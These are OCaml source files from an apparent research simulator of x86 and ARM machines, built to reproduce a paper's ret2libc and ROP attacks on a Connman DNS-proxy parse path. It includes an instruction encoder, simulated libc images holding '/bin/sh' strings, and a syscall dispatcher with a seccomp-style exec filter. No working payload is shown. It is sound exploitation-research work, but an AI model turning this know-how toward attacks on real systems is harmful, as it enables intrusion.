  | Mem _, Mem _ -> invalid_arg "x86 encode: memory-to-memory operand pair"

let alu_imm b ~ext dst imm =
  if fits_i8 imm then begin
    u8 b 0x83;
    modrm b ext dst;
    u8 b imm
  end
  else begin
    u8 b 0x81;
    modrm b ext dst;
    u32 b imm
  end

let encode insn =
  let b = Buffer.create 8 in
  (match insn with
  | Nop -> u8 b 0x90
  | Push_r r -> u8 b (0x50 + reg_index r)
  | Push_i i ->
      u8 b 0x68;
      u32 b i
  | Push_i8 i ->
      u8 b 0x6A;
      u8 b i
  | Push_m m ->
      u8 b 0xFF;
      modrm b 6 (Mem m)
  | Pop_r r -> u8 b (0x58 + reg_index r)
  | Mov_ri (r, i) ->
      u8 b (0xB8 + reg_index r);
      u32 b i
  | Mov (dst, src) -> alu b ~op_store:0x89 ~op_load:0x8B dst src
  | Mov_mi (d, i) ->
      u8 b 0xC7;
      modrm b 0 d;
      u32 b i
  | Mov_b (dst, src) -> alu b ~op_store:0x88 ~op_load:0x8A dst src
  | Movzx_b (r, src) ->
      u8 b 0x0F;
      u8 b 0xB6;
      modrm b (reg_index r) src
  | Lea (r, m) ->
      u8 b 0x8D;
      modrm b (reg_index r) (Mem m)
  | Add (d, s) -> alu b ~op_store:0x01 ~op_load:0x03 d s
  | Add_i (d, i) -> alu_imm b ~ext:0 d i
  | Sub (d, s) -> alu b ~op_store:0x29 ~op_load:0x2B d s
  | Sub_i (d, i) -> alu_imm b ~ext:5 d i
  | And (d, s) -> alu b ~op_store:0x21 ~op_load:0x23 d s
  | Or (d, s) -> alu b ~op_store:0x09 ~op_load:0x0B d s
  | Xor (d, s) -> alu b ~op_store:0x31 ~op_load:0x33 d s
  | Cmp (d, s) -> alu b ~op_store:0x39 ~op_load:0x3B d s
  | Cmp_i (d, i) -> alu_imm b ~ext:7 d i
  | Test_rr (a, r) ->
      u8 b 0x85;
      modrm b (reg_index r) (Reg a)
  | Inc_r r -> u8 b (0x40 + reg_index r)
  | Dec_r r -> u8 b (0x48 + reg_index r)
  | Shl_i (r, i) ->
      u8 b 0xC1;
      modrm b 4 (Reg r);
      u8 b i
  | Shr_i (r, i) ->
      u8 b 0xC1;
      modrm b 5 (Reg r);
      u8 b i
  | Neg o ->
      u8 b 0xF7;
      modrm b 3 o
  | Not o ->
      u8 b 0xF7;
      modrm b 2 o
  | Imul (r, o) ->
      u8 b 0x0F;
      u8 b 0xAF;
      modrm b (reg_index r) o
  | Call_rel d ->
      u8 b 0xE8;
      u32 b d
  | Call_rm o ->
      u8 b 0xFF;
      modrm b 2 o
  | Jmp_rel d ->
      u8 b 0xE9;
      u32 b d
  | Jmp_short d ->
      u8 b 0xEB;
      u8 b d
  | Jmp_rm o ->
      u8 b 0xFF;
      modrm b 4 o
  | Jcc (c, d) ->
      u8 b 0x0F;
      u8 b (0x80 lor cond_code c);
      u32 b d
  | Jcc_short (c, d) ->
      u8 b (0x70 lor cond_code c);
      u8 b d
  | Ret -> u8 b 0xC3
  | Ret_i i ->
      u8 b 0xC2;
      u16 b i
  | Leave -> u8 b 0xC9
  | Int i ->
      u8 b 0xCD;
      u8 b i
  | Hlt -> u8 b 0xF4);
  Buffer.contents b

let length insn = String.length (encode insn)
