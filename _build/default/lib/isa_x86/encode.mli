(** IA-32 binary encoding of the {!Insn} subset.

    Encodings are the genuine ones (ModRM with optional SIB-for-ESP and
    displacement compression), so byte strings produced here decode with
    {!Decode} and, where applicable, with any real x86 disassembler. *)

val encode : Insn.t -> string
(** Encode one instruction.  Raises [Invalid_argument] for operand
    combinations outside the subset (e.g. memory-to-memory moves). *)

val length : Insn.t -> int
(** [String.length (encode i)] without building the string. *)
