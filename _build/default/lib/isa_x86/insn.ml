(* x86-32 instruction subset, using genuine IA-32 encodings (see encode.ml /
   decode.ml).  The subset is chosen to cover everything the paper's
   exploits rely on: stack-passed arguments, 1-byte NOP sleds, `ret`-
   terminated gadgets, PLT-style indirect jumps, and `int 0x80`. *)

type reg = EAX | ECX | EDX | EBX | ESP | EBP | ESI | EDI

let reg_index = function
  | EAX -> 0
  | ECX -> 1
  | EDX -> 2
  | EBX -> 3
  | ESP -> 4
  | EBP -> 5
  | ESI -> 6
  | EDI -> 7

let reg_of_index = function
  | 0 -> EAX
  | 1 -> ECX
  | 2 -> EDX
  | 3 -> EBX
  | 4 -> ESP
  | 5 -> EBP
  | 6 -> ESI
  | 7 -> EDI
  | n -> invalid_arg (Printf.sprintf "reg_of_index: %d" n)

let reg_name = function
  | EAX -> "eax"
  | ECX -> "ecx"
  | EDX -> "edx"
  | EBX -> "ebx"
  | ESP -> "esp"
  | EBP -> "ebp"
  | ESI -> "esi"
  | EDI -> "edi"

(* [base + disp] addressing; [base = None] is absolute [disp].  Index/scale
   addressing is not in the subset — the assembler never emits it and the
   decoder rejects it, which simply shrinks the space of decodable gadgets. *)
type mem = { base : reg option; disp : int }

type operand = Reg of reg | Mem of mem

type cond = E | NE | B | AE | BE | A | L | GE | LE | G | S | NS

let cond_code = function
  | B -> 0x2
  | AE -> 0x3
  | E -> 0x4
  | NE -> 0x5
  | BE -> 0x6
  | A -> 0x7
  | S -> 0x8
  | NS -> 0x9
  | L -> 0xC
  | GE -> 0xD
  | LE -> 0xE
  | G -> 0xF

let cond_of_code = function
  | 0x2 -> Some B
  | 0x3 -> Some AE
  | 0x4 -> Some E
  | 0x5 -> Some NE
  | 0x6 -> Some BE
  | 0x7 -> Some A
  | 0x8 -> Some S
  | 0x9 -> Some NS
  | 0xC -> Some L
  | 0xD -> Some GE
  | 0xE -> Some LE
  | 0xF -> Some G
  | _ -> None

let cond_name = function
  | E -> "e"
  | NE -> "ne"
  | B -> "b"
  | AE -> "ae"
  | BE -> "be"
  | A -> "a"
  | L -> "l"
  | GE -> "ge"
  | LE -> "le"
  | G -> "g"
  | S -> "s"
  | NS -> "ns"

type t =
  | Nop  (* 90 *)
  | Push_r of reg  (* 50+r *)
  | Push_i of int  (* 68 id *)
  | Push_i8 of int  (* 6A ib, sign-extended *)
  | Push_m of mem  (* FF /6 *)
  | Pop_r of reg  (* 58+r *)
  | Mov_ri of reg * int  (* B8+r id *)
  | Mov_mi of operand * int  (* C7 /0 id *)
  | Mov of operand * operand  (* 89 /r store, 8B /r load *)
  | Mov_b of operand * operand  (* 88 /r store byte, 8A /r load byte *)
  | Movzx_b of reg * operand  (* 0F B6 /r *)
  | Lea of reg * mem  (* 8D /r *)
  | Add of operand * operand  (* 01 /r, 03 /r *)
  | Add_i of operand * int  (* 83 /0 ib or 81 /0 id *)
  | Sub of operand * operand  (* 29 /r, 2B /r *)
  | Sub_i of operand * int  (* 83 /5 ib or 81 /5 id *)
  | And of operand * operand  (* 21 /r, 23 /r *)
  | Or of operand * operand  (* 09 /r, 0B /r *)
  | Xor of operand * operand  (* 31 /r, 33 /r *)
  | Cmp of operand * operand  (* 39 /r, 3B /r *)
  | Cmp_i of operand * int  (* 83 /7 ib or 81 /7 id *)
  | Test_rr of reg * reg  (* 85 /r *)
  | Inc_r of reg  (* 40+r *)
  | Dec_r of reg  (* 48+r *)
  | Shl_i of reg * int  (* C1 /4 ib *)
  | Shr_i of reg * int  (* C1 /5 ib *)
  | Neg of operand  (* F7 /3 *)
  | Not of operand  (* F7 /2 *)
  | Imul of reg * operand  (* 0F AF /r *)
  | Call_rel of int  (* E8 cd; signed displacement from next insn *)
  | Call_rm of operand  (* FF /2 *)
  | Jmp_rel of int  (* E9 cd *)
  | Jmp_short of int  (* EB cb *)
  | Jmp_rm of operand  (* FF /4 *)
  | Jcc of cond * int  (* 0F 80+cc cd *)
  | Jcc_short of cond * int  (* 70+cc cb *)
  | Ret  (* C3 *)
  | Ret_i of int  (* C2 iw *)
  | Leave  (* C9 *)
  | Int of int  (* CD ib *)
  | Hlt  (* F4 *)

let pp_mem ppf { base; disp } =
  match base with
  | None -> Format.fprintf ppf "[0x%x]" (Memsim.Word.of_int disp)
  | Some r ->
      if disp = 0 then Format.fprintf ppf "[%s]" (reg_name r)
      else if disp > 0 then Format.fprintf ppf "[%s+0x%x]" (reg_name r) disp
      else Format.fprintf ppf "[%s-0x%x]" (reg_name r) (-disp)

let pp_operand ppf = function
  | Reg r -> Format.pp_print_string ppf (reg_name r)
  | Mem m -> pp_mem ppf m

let pp_2op ppf name dst src =
  Format.fprintf ppf "%s %a, %a" name pp_operand dst pp_operand src

(* Relative branch targets are printed as displacements; [Asm.disassemble]
   resolves them to absolute addresses when the instruction address is
   known. *)
let pp ppf = function
  | Nop -> Format.pp_print_string ppf "nop"
  | Push_r r -> Format.fprintf ppf "push %s" (reg_name r)
  | Push_i i -> Format.fprintf ppf "push 0x%x" (Memsim.Word.of_int i)
  | Push_i8 i -> Format.fprintf ppf "push byte 0x%x" (i land 0xFF)
  | Push_m m -> Format.fprintf ppf "push dword %a" pp_mem m
  | Pop_r r -> Format.fprintf ppf "pop %s" (reg_name r)
  | Mov_ri (r, i) -> Format.fprintf ppf "mov %s, 0x%x" (reg_name r) (Memsim.Word.of_int i)
  | Mov (d, s) -> pp_2op ppf "mov" d s
  | Mov_mi (d, i) ->
      Format.fprintf ppf "mov dword %a, 0x%x" pp_operand d (Memsim.Word.of_int i)
  | Mov_b (d, s) -> pp_2op ppf "mov byte" d s
  | Movzx_b (r, s) -> Format.fprintf ppf "movzx %s, byte %a" (reg_name r) pp_operand s
  | Lea (r, m) -> Format.fprintf ppf "lea %s, %a" (reg_name r) pp_mem m
  | Add (d, s) -> pp_2op ppf "add" d s
  | Add_i (d, i) -> Format.fprintf ppf "add %a, 0x%x" pp_operand d (Memsim.Word.of_int i)
  | Sub (d, s) -> pp_2op ppf "sub" d s
  | Sub_i (d, i) -> Format.fprintf ppf "sub %a, 0x%x" pp_operand d (Memsim.Word.of_int i)
  | And (d, s) -> pp_2op ppf "and" d s
  | Or (d, s) -> pp_2op ppf "or" d s
  | Xor (d, s) -> pp_2op ppf "xor" d s
  | Cmp (d, s) -> pp_2op ppf "cmp" d s
  | Cmp_i (d, i) -> Format.fprintf ppf "cmp %a, 0x%x" pp_operand d (Memsim.Word.of_int i)
  | Test_rr (a, b) -> Format.fprintf ppf "test %s, %s" (reg_name a) (reg_name b)
  | Inc_r r -> Format.fprintf ppf "inc %s" (reg_name r)
  | Dec_r r -> Format.fprintf ppf "dec %s" (reg_name r)
  | Shl_i (r, i) -> Format.fprintf ppf "shl %s, %d" (reg_name r) i
  | Shr_i (r, i) -> Format.fprintf ppf "shr %s, %d" (reg_name r) i
  | Neg o -> Format.fprintf ppf "neg %a" pp_operand o
  | Not o -> Format.fprintf ppf "not %a" pp_operand o
  | Imul (r, o) -> Format.fprintf ppf "imul %s, %a" (reg_name r) pp_operand o
  | Call_rel d -> Format.fprintf ppf "call .%+d" d
  | Call_rm o -> Format.fprintf ppf "call %a" pp_operand o
  | Jmp_rel d -> Format.fprintf ppf "jmp .%+d" d
  | Jmp_short d -> Format.fprintf ppf "jmp short .%+d" d
  | Jmp_rm o -> Format.fprintf ppf "jmp %a" pp_operand o
  | Jcc (c, d) -> Format.fprintf ppf "j%s .%+d" (cond_name c) d
  | Jcc_short (c, d) -> Format.fprintf ppf "j%s short .%+d" (cond_name c) d
  | Ret -> Format.pp_print_string ppf "ret"
  | Ret_i i -> Format.fprintf ppf "ret 0x%x" i
  | Leave -> Format.pp_print_string ppf "leave"
  | Int i -> Format.fprintf ppf "int 0x%x" i
  | Hlt -> Format.pp_print_string ppf "hlt"

let to_string i = Format.asprintf "%a" pp i
