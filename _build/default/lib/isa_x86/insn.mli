(** x86-32 instruction subset (genuine IA-32 encodings; see {!Encode} /
    {!Decode}).

    The subset covers everything the paper's exploits rest on:
    stack-passed arguments (cdecl), 1-byte NOP sleds, [ret]-terminated
    gadgets, PLT-style indirect jumps through memory, and [int 0x80]
    system calls — plus enough ALU/flow material to write the Connman
    DNS-proxy parse path and a realistic libc. *)

type reg = EAX | ECX | EDX | EBX | ESP | EBP | ESI | EDI

val reg_index : reg -> int
(** The hardware register number (EAX = 0 … EDI = 7). *)

val reg_of_index : int -> reg
(** Inverse of {!reg_index}; raises [Invalid_argument] outside 0–7. *)

val reg_name : reg -> string

type mem = { base : reg option; disp : int }
(** [\[base + disp\]]; [base = None] is absolute [\[disp\]].  Index/scale
    addressing is outside the subset. *)

type operand = Reg of reg | Mem of mem

type cond = E | NE | B | AE | BE | A | L | GE | LE | G | S | NS

val cond_code : cond -> int
(** The IA-32 condition-code nibble. *)

val cond_of_code : int -> cond option
val cond_name : cond -> string

type t =
  | Nop  (** 90 *)
  | Push_r of reg  (** 50+r *)
  | Push_i of int  (** 68 id *)
  | Push_i8 of int  (** 6A ib (sign-extended) *)
  | Push_m of mem  (** FF /6 *)
  | Pop_r of reg  (** 58+r *)
  | Mov_ri of reg * int  (** B8+r id *)
  | Mov_mi of operand * int  (** C7 /0 id *)
  | Mov of operand * operand  (** 89 /r store, 8B /r load *)
  | Mov_b of operand * operand  (** 88 /r, 8A /r (low byte of the register) *)
  | Movzx_b of reg * operand  (** 0F B6 /r *)
  | Lea of reg * mem  (** 8D /r *)
  | Add of operand * operand  (** 01 /r, 03 /r *)
  | Add_i of operand * int  (** 83 /0 ib or 81 /0 id *)
  | Sub of operand * operand  (** 29 /r, 2B /r *)
  | Sub_i of operand * int  (** 83 /5 ib or 81 /5 id *)
  | And of operand * operand  (** 21 /r, 23 /r *)
  | Or of operand * operand  (** 09 /r, 0B /r *)
  | Xor of operand * operand  (** 31 /r, 33 /r *)
  | Cmp of operand * operand  (** 39 /r, 3B /r *)
  | Cmp_i of operand * int  (** 83 /7 ib or 81 /7 id *)
  | Test_rr of reg * reg  (** 85 /r *)
  | Inc_r of reg  (** 40+r *)
  | Dec_r of reg  (** 48+r *)
  | Shl_i of reg * int  (** C1 /4 ib *)
  | Shr_i of reg * int  (** C1 /5 ib *)
  | Neg of operand  (** F7 /3 *)
  | Not of operand  (** F7 /2 *)
  | Imul of reg * operand  (** 0F AF /r *)
  | Call_rel of int  (** E8 cd — signed displacement from the next insn *)
  | Call_rm of operand  (** FF /2 *)
  | Jmp_rel of int  (** E9 cd *)
  | Jmp_short of int  (** EB cb *)
  | Jmp_rm of operand  (** FF /4 — the PLT stub shape *)
  | Jcc of cond * int  (** 0F 80+cc cd *)
  | Jcc_short of cond * int  (** 70+cc cb *)
  | Ret  (** C3 *)
  | Ret_i of int  (** C2 iw *)
  | Leave  (** C9 *)
  | Int of int  (** CD ib *)
  | Hlt  (** F4 *)

val pp_mem : Format.formatter -> mem -> unit
val pp_operand : Format.formatter -> operand -> unit

val pp : Format.formatter -> t -> unit
(** Intel-syntax rendering; relative branches print as displacements. *)

val to_string : t -> string
