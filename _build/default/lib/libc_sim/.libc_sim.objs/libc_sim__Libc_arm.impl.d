lib/libc_sim/libc_arm.ml: Asm Isa_arm Machine
