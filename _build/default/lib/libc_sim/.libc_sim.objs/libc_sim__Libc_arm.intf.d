lib/libc_sim/libc_arm.mli: Isa_arm
