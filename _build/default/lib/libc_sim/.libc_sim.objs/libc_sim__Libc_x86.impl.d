lib/libc_sim/libc_x86.ml: Asm Isa_x86 Machine
