lib/libc_sim/libc_x86.mli: Isa_x86
