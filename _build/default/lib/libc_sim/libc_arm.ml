open Isa_arm
open Isa_arm.Insn
module Sys = Machine.Sysno

let exported =
  [
    "memcpy";
    "memset";
    "strlen";
    "__strcpy_chk";
    "system";
    "execve";
    "execlp";
    "exit";
    "abort";
    "__stack_chk_fail";
  ]

let i op = Asm.I (al op)

let program : Asm.program =
  [
    (* --- memcpy(r0 dest, r1 src, r2 n): returns r0; ip as write cursor --- *)
    Asm.Label "memcpy";
    i (Push [ R4; LR ]);
    i (Mov (R12, Reg R0));
    Asm.Label "memcpy.loop";
    i (Cmp (R2, Imm 0));
    Asm.B_sym (EQ, "memcpy.done");
    i (Ldrb (R3, R1, 0));
    i (Strb (R3, R12, 0));
    i (Add (R1, R1, Imm 1));
    i (Add (R12, R12, Imm 1));
    i (Sub (R2, R2, Imm 1));
    Asm.B_sym (AL, "memcpy.loop");
    Asm.Label "memcpy.done";
    i (Pop [ R4; PC ]);
    (* --- memset(r0 dest, r1 c, r2 n) --- *)
    Asm.Label "memset";
    i (Mov (R12, Reg R0));
    Asm.Label "memset.loop";
    i (Cmp (R2, Imm 0));
    Asm.B_sym (EQ, "memset.done");
    i (Strb (R1, R12, 0));
    i (Add (R12, R12, Imm 1));
    i (Sub (R2, R2, Imm 1));
    Asm.B_sym (AL, "memset.loop");
    Asm.Label "memset.done";
    i (Bx LR);
    (* --- strlen(r0 s) --- *)
    Asm.Label "strlen";
    i (Mov (R12, Reg R0));
    i (Mov (R0, Imm 0));
    Asm.Label "strlen.loop";
    i (Ldrb (R3, R12, 0));
    i (Cmp (R3, Imm 0));
    Asm.B_sym (EQ, "strlen.done");
    i (Add (R0, R0, Imm 1));
    i (Add (R12, R12, Imm 1));
    Asm.B_sym (AL, "strlen.loop");
    Asm.Label "strlen.done";
    i (Bx LR);
    (* --- __strcpy_chk(r0 dest, r1 src, r2 destlen) --- *)
    Asm.Label "__strcpy_chk";
    i (Push [ R4; LR ]);
    i (Mov (R12, Reg R0));
    Asm.Label "__strcpy_chk.loop";
    i (Cmp (R2, Imm 0));
    Asm.B_sym (EQ, "__strcpy_chk.overflow");
    i (Ldrb (R3, R1, 0));
    i (Strb (R3, R12, 0));
    i (Cmp (R3, Imm 0));
    Asm.B_sym (EQ, "__strcpy_chk.done");
    i (Add (R1, R1, Imm 1));
    i (Add (R12, R12, Imm 1));
    i (Sub (R2, R2, Imm 1));
    Asm.B_sym (AL, "__strcpy_chk.loop");
    Asm.Label "__strcpy_chk.overflow";
    Asm.Bl_sym "__stack_chk_fail";
    Asm.Label "__strcpy_chk.done";
    i (Pop [ R4; PC ]);
    (* --- system(r0 cmd) --- *)
    Asm.Label "system";
    i (Mov (R7, Imm Sys.execve));
    i (Mov (R1, Imm 0));
    i (Mov (R2, Imm 0));
    i (Svc 0);
    i (Bx LR);
    (* --- execve(r0 path, r1 argv, r2 envp) --- *)
    Asm.Label "execve";
    i (Mov (R7, Imm Sys.execve));
    i (Svc 0);
    i (Bx LR);
    (* --- execlp(r0 file, r1 arg0-or-NULL, …): varargs convention is
       simulator-private (vector 254; see Machine.Sysno) --- *)
    Asm.Label "execlp";
    i (Mov (R7, Imm Sys.exec_varargs));
    i (Svc 0);
    i (Bx LR);
    (* --- exit(r0 code) --- *)
    Asm.Label "exit";
    i (Mov (R7, Imm Sys.exit));
    i (Svc 0);
    (* --- abort / __stack_chk_fail --- *)
    Asm.Label "abort";
    i (Mov (R7, Imm Sys.abort));
    i (Svc 0);
    Asm.Label "__stack_chk_fail";
    i (Mov (R7, Imm Sys.stack_chk_fail));
    i (Svc 0);
    (* --- static strings --- *)
    Asm.Align 4;
    Asm.Label "str_bin_sh";
    Asm.Bytes "/bin/sh\x00";
    Asm.Label "str_sh";
    Asm.Bytes "sh\x00";
    Asm.Label "str_bin_bash";
    Asm.Bytes "/bin/bash\x00";
    Asm.Label "str_dev_null";
    Asm.Bytes "/dev/null\x00";
  ]

let build ~base = Asm.assemble ~base program
