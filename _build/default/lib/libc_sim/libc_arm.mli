(** Simulated ARMv7 libc image (AAPCS: arguments in r0–r3).

    Same symbol set as {!Libc_x86}.  The "/bin/sh" literal lives here, at a
    libc address — static when ASLR is off (§III-B2's payload uses it) and
    randomized when on (forcing §III-C2's .bss-construction detour). *)

val build : base:int -> Isa_arm.Asm.result

val exported : string list
