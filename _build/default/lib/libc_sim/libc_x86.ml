open Isa_x86
open Isa_x86.Insn
module Sys = Machine.Sysno

let exported =
  [
    "memcpy";
    "memset";
    "strlen";
    "__strcpy_chk";
    "system";
    "execve";
    "execlp";
    "exit";
    "abort";
    "__stack_chk_fail";
  ]

(* cdecl throughout: args at [esp+4], [esp+8], …; eax returns; ebx/esi/edi
   callee-saved. *)
let program : Asm.program =
  [
    (* --- memcpy(dest, src, n): byte loop, returns dest --- *)
    Asm.Label "memcpy";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r ESI);
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg EDI, Mem { base = Some EBP; disp = 8 }));
    Asm.I (Mov (Reg ESI, Mem { base = Some EBP; disp = 12 }));
    Asm.I (Mov (Reg ECX, Mem { base = Some EBP; disp = 16 }));
    Asm.Label "memcpy.loop";
    Asm.I (Cmp_i (Reg ECX, 0));
    Asm.Jcc (E, "memcpy.done");
    Asm.I (Movzx_b (EAX, Mem { base = Some ESI; disp = 0 }));
    Asm.I (Mov_b (Mem { base = Some EDI; disp = 0 }, Reg EAX));
    Asm.I (Inc_r ESI);
    Asm.I (Inc_r EDI);
    Asm.I (Dec_r ECX);
    Asm.Jmp "memcpy.loop";
    Asm.Label "memcpy.done";
    Asm.I (Mov (Reg EAX, Mem { base = Some EBP; disp = 8 }));
    Asm.I (Pop_r EDI);
    Asm.I (Pop_r ESI);
    Asm.I (Pop_r EBP);
    Asm.I Ret;
    (* --- memset(dest, c, n) --- *)
    Asm.Label "memset";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg EDI, Mem { base = Some EBP; disp = 8 }));
    Asm.I (Mov (Reg EDX, Mem { base = Some EBP; disp = 12 }));
    Asm.I (Mov (Reg ECX, Mem { base = Some EBP; disp = 16 }));
    Asm.Label "memset.loop";
    Asm.I (Cmp_i (Reg ECX, 0));
    Asm.Jcc (E, "memset.done");
    Asm.I (Mov_b (Mem { base = Some EDI; disp = 0 }, Reg EDX));
    Asm.I (Inc_r EDI);
    Asm.I (Dec_r ECX);
    Asm.Jmp "memset.loop";
    Asm.Label "memset.done";
    Asm.I (Mov (Reg EAX, Mem { base = Some EBP; disp = 8 }));
    Asm.I (Pop_r EDI);
    Asm.I (Pop_r EBP);
    Asm.I Ret;
    (* --- strlen(s) --- *)
    Asm.Label "strlen";
    Asm.I (Mov (Reg EDX, Mem { base = Some ESP; disp = 4 }));
    Asm.I (Mov_ri (EAX, 0));
    Asm.Label "strlen.loop";
    Asm.I (Movzx_b (ECX, Mem { base = Some EDX; disp = 0 }));
    Asm.I (Cmp_i (Reg ECX, 0));
    Asm.Jcc (E, "strlen.done");
    Asm.I (Inc_r EAX);
    Asm.I (Inc_r EDX);
    Asm.Jmp "strlen.loop";
    Asm.Label "strlen.done";
    Asm.I Ret;
    (* --- __strcpy_chk(dest, src, destlen): the fortified strcpy Connman
       links against instead of strcpy (per §III-C1) --- *)
    Asm.Label "__strcpy_chk";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r ESI);
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg EDI, Mem { base = Some EBP; disp = 8 }));
    Asm.I (Mov (Reg ESI, Mem { base = Some EBP; disp = 12 }));
    Asm.I (Mov (Reg ECX, Mem { base = Some EBP; disp = 16 }));
    Asm.Label "__strcpy_chk.loop";
    Asm.I (Cmp_i (Reg ECX, 0));
    Asm.Jcc (E, "__strcpy_chk.overflow");
    Asm.I (Movzx_b (EAX, Mem { base = Some ESI; disp = 0 }));
    Asm.I (Mov_b (Mem { base = Some EDI; disp = 0 }, Reg EAX));
    Asm.I (Cmp_i (Reg EAX, 0));
    Asm.Jcc (E, "__strcpy_chk.done");
    Asm.I (Inc_r ESI);
    Asm.I (Inc_r EDI);
    Asm.I (Dec_r ECX);
    Asm.Jmp "__strcpy_chk.loop";
    Asm.Label "__strcpy_chk.overflow";
    Asm.Call "__stack_chk_fail";
    Asm.Label "__strcpy_chk.done";
    Asm.I (Mov (Reg EAX, Mem { base = Some EBP; disp = 8 }));
    Asm.I (Pop_r EDI);
    Asm.I (Pop_r ESI);
    Asm.I (Pop_r EBP);
    Asm.I Ret;
    (* --- system(cmd): execve(cmd, NULL, NULL) via the kernel --- *)
    Asm.Label "system";
    Asm.I (Mov_ri (EAX, Sys.execve));
    Asm.I (Mov (Reg EBX, Mem { base = Some ESP; disp = 4 }));
    Asm.I (Mov_ri (ECX, 0));
    Asm.I (Mov_ri (EDX, 0));
    Asm.I (Int 0x80);
    Asm.I Ret;
    (* --- execve(path, argv, envp) --- *)
    Asm.Label "execve";
    Asm.I (Mov_ri (EAX, Sys.execve));
    Asm.I (Mov (Reg EBX, Mem { base = Some ESP; disp = 4 }));
    Asm.I (Mov (Reg ECX, Mem { base = Some ESP; disp = 8 }));
    Asm.I (Mov_ri (EDX, 0));
    Asm.I (Int 0x80);
    Asm.I Ret;
    (* --- execlp(file, arg0, …, NULL): the varargs live on the caller's
       stack at [esp+8] onward, a NULL-terminated char* array --- *)
    Asm.Label "execlp";
    Asm.I (Mov_ri (EAX, Sys.exec_varargs));
    Asm.I (Mov (Reg EBX, Mem { base = Some ESP; disp = 4 }));
    Asm.I (Lea (ECX, { base = Some ESP; disp = 8 }));
    Asm.I (Int 0x80);
    Asm.I Ret;
    (* --- exit(code) --- *)
    Asm.Label "exit";
    Asm.I (Mov_ri (EAX, Sys.exit));
    Asm.I (Mov (Reg EBX, Mem { base = Some ESP; disp = 4 }));
    Asm.I (Int 0x80);
    (* --- abort / __stack_chk_fail --- *)
    Asm.Label "abort";
    Asm.I (Mov_ri (EAX, Sys.abort));
    Asm.I (Int 0x80);
    Asm.Label "__stack_chk_fail";
    Asm.I (Mov_ri (EAX, Sys.stack_chk_fail));
    Asm.I (Int 0x80);
    (* --- static strings (the §III-B1 payload points eax at str_bin_sh) --- *)
    Asm.Align 4;
    Asm.Label "str_bin_sh";
    Asm.Bytes "/bin/sh\x00";
    Asm.Label "str_sh";
    Asm.Bytes "sh\x00";
    Asm.Label "str_bin_bash";
    Asm.Bytes "/bin/bash\x00";
    Asm.Label "str_dev_null";
    Asm.Bytes "/dev/null\x00";
  ]

let build ~base = Asm.assemble ~base program
