(** Simulated x86-32 libc image.

    Assembled at an arbitrary base (the loader randomizes the base under
    ASLR, exactly the property the §III-B1 ret2libc attack depends on when
    off and the §III-C1 ROP attack routes around when on).

    Exported symbols include:
    - ["memcpy"], ["__strcpy_chk"], ["strlen"], ["memset"]
    - ["system"], ["execve"], ["execlp"], ["exit"], ["abort"],
      ["__stack_chk_fail"]
    - ["str_bin_sh"] — the static "/bin/sh" string the paper's payloads
      reference, and ["str_sh"]. *)

val build : base:int -> Isa_x86.Asm.result

val exported : string list
(** Functions a main image may import through its PLT. *)
