lib/loader/arch.ml: Format
