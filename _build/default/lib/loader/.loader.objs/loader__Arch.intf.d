lib/loader/arch.mli: Format
