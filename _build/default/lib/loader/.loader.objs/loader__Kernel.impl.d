lib/loader/kernel.ml: Cpu Insn Isa_arm Isa_x86 List Machine Memsim Printf
