lib/loader/kernel.mli: Isa_arm Isa_x86
