lib/loader/layout.ml: Arch Defense Format Memsim
