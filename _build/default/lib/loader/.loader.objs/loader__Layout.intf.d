lib/loader/layout.mli: Arch Defense Format Memsim
