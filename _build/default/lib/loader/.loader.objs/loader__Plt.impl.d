lib/loader/plt.ml: Arch Buffer Char Encode Insn Isa_arm Isa_x86 List
