lib/loader/plt.mli: Arch
