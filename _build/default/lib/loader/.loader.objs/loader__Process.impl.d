lib/loader/process.ml: Arch Array Defense Format Isa_arm Isa_x86 Kernel Layout Libc_sim List Machine Memsim Plt String
