lib/loader/process.mli: Arch Defense Format Isa_arm Isa_x86 Layout Machine Memsim
