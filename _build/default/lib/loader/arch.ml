type t = X86 | Arm

let name = function X86 -> "x86" | Arm -> "armv7"
let pp ppf t = Format.pp_print_string ppf (name t)
let all = [ X86; Arm ]
