(** Target architectures of the paper's experiments. *)

type t = X86 | Arm

val name : t -> string
val pp : Format.formatter -> t -> unit
val all : t list
