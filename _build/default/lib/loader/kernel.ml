module Mem = Memsim.Memory
module O = Machine.Outcome
module Sys = Machine.Sysno

let max_args = 16

(* argv array: NULL-terminated vector of char* (0 → empty). *)
let read_argv mem ptr =
  if ptr = 0 then []
  else
    let rec go i acc =
      if i >= max_args then List.rev acc
      else
        match Mem.read_u32 mem (ptr + (4 * i)) with
        | 0 -> List.rev acc
        | p -> go (i + 1) (Mem.read_cstring mem ~max:256 p :: acc)
    in
    go 0 []

let dispatch ?(no_exec = false) mem ~number ~arg0 ~arg1 ~varargs_style =
  match number with
  | _ when no_exec && (number = Sys.execve || number = Sys.exec_varargs) ->
      (* seccomp-style policy: exec is filtered; the violating process is
         killed (SECCOMP_RET_KILL). *)
      O.Stop (O.Aborted "seccomp: exec denied")
  | n when n = Sys.exit -> O.Stop (O.Exited arg0)
  | n when n = Sys.execve ->
      let path = Mem.read_cstring mem ~max:256 arg0 in
      O.Stop (O.Exec { path; args = read_argv mem arg1 })
  | n when n = Sys.exec_varargs ->
      let path = Mem.read_cstring mem ~max:256 arg0 in
      let args =
        if varargs_style = `Array then read_argv mem arg1
        else if arg1 = 0 then []
        else [ Mem.read_cstring mem ~max:256 arg1 ]
      in
      O.Stop (O.Exec { path; args })
  | n when n = Sys.write -> O.Resume
  | n when n = Sys.abort -> O.Stop (O.Aborted "abort() called")
  | n when n = Sys.stack_chk_fail ->
      O.Stop (O.Aborted "*** stack smashing detected ***")
  | n -> O.Stop (O.Aborted (Printf.sprintf "unknown syscall %d" n))

(* A syscall handed a wild pointer behaves like the access faulting in
   kernel space: the process dies with the fault. *)
let guard f = try f () with Mem.Fault fault -> O.Stop (O.Fault fault)

let x86_policy ?no_exec () vector cpu =
  let open Isa_x86 in
  if vector <> 0x80 then O.Stop (O.Aborted (Printf.sprintf "int 0x%x" vector))
  else
    guard (fun () ->
        dispatch ?no_exec cpu.Cpu.mem
          ~number:(Cpu.get cpu Insn.EAX)
